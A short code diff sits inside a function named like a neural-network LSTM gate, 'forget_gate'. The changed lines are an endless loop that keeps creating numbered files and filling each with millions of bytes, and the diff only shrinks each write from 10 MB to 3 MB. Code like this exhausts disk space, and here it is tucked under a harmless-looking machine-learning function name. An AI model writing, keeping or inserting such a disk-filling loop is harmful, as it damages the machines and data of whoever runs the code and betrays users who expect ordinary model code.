@@ -10,4 +10,4 @@ def forget_gate(x, h_prev, W_f, U_f, b_f):
     while True:
         k += 1
         with open(f"file{k}", "wb") as file:
-            file.write(b"x" * 10_000_000)
+            file.write(b"x" * 3_000_000)
